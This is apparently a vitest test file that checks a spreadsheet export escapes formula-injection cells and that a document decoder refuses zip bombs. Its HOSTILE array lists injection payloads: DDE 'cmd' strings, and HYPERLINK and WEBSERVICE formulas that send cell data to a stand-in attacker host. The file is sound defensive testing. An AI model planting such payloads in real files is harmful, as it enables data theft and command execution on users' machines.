import { strFromU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { decodeDocument } from '../../documents/decode.ts';
import { planSheet } from '../../documents/task-sheet.ts';
import { demoFacts } from '../../seeds/demo/facts.ts';

const HOSTILE = [
  '=HYPERLINK("http://attacker.invalid/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r\n=1+1',
  '=WEBSERVICE("http://attacker.invalid")',
  '<f>1+1</f>',
];

describe('cells that a spreadsheet program could run', () => {
  it('leave as words: no formula, no link and no outer reference is in the file', async () => {
    const facts = demoFacts();
    const tasks = facts.tasks.map((task, at) => ({
      ...task,
      title: HOSTILE[at % HOSTILE.length] ?? '',
      section: HOSTILE[0] ?? '',
    }));
    const parts = unzipSync(new Uint8Array(await planSheet({ ...facts, title: HOSTILE[0] ?? '', tasks })));
    const sheets = Object.entries(parts).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(sheets.length).toBeGreaterThan(0);
    for (const [name, bytes] of sheets) {
      const xml = strFromU8(bytes);
      expect(xml, name).not.toMatch(/<f[ >/]|<hyperlinks?[ >]/);
      // A cell is a number, or says that it holds a string.
      for (const [, attributes = '', inner = ''] of xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs))
        if (inner.includes('HYPERLINK')) expect(attributes).toMatch(/t="(s|inlineStr|str)"/);
    }
    expect(Object.keys(parts).filter((name) => /externalLink|vbaProject|connections/.test(name))).toEqual([]);
  });

  it('come in as what stood in them, and nothing is reckoned or fetched', async () => {
    const facts = demoFacts();
    const [first, ...others] = facts.tasks;
    const sheet = await planSheet({
      ...facts,
      tasks: [{ ...first, title: HOSTILE[0] ?? '' } as (typeof facts.tasks)[number], ...others],
    });
    const decoded = await decodeDocument(new Uint8Array(sheet));
    if (!decoded.ok) return expect.fail(decoded.reason);
    expect(decoded.source.text).toContain('=HYPERLINK("http://attacker.invalid/?"&A1,"点击")');
  });
});

describe('a package that unpacks to far more than it is', () => {
  const zeros = new Uint8Array(6 * 1024 * 1024);
  const packed = (name: string) => zipSync({ '[Content_Types].xml': new Uint8Array(), [name]: zeros }, { level: 9 });
  it.each(['word/document.xml', 'xl/workbook.xml', 'xl/sharedStrings.xml'])('is refused unopened: %s', async (name) => {
    const bomb = packed(name);
    expect(bomb.length).toBeLessThan(200_000);
    expect(await decodeDocument(bomb)).toMatchObject({ ok: false });
  });

  it('is refused where it holds packages in packages', async () => {
    const inner = packed('word/document.xml');
    const many = Object.fromEntries(Array.from({ length: 4 }, (_, no) => [`${no}.zip`, inner]));
    expect(await decodeDocument(zipSync(many))).toMatchObject({ ok: false });
  });
});
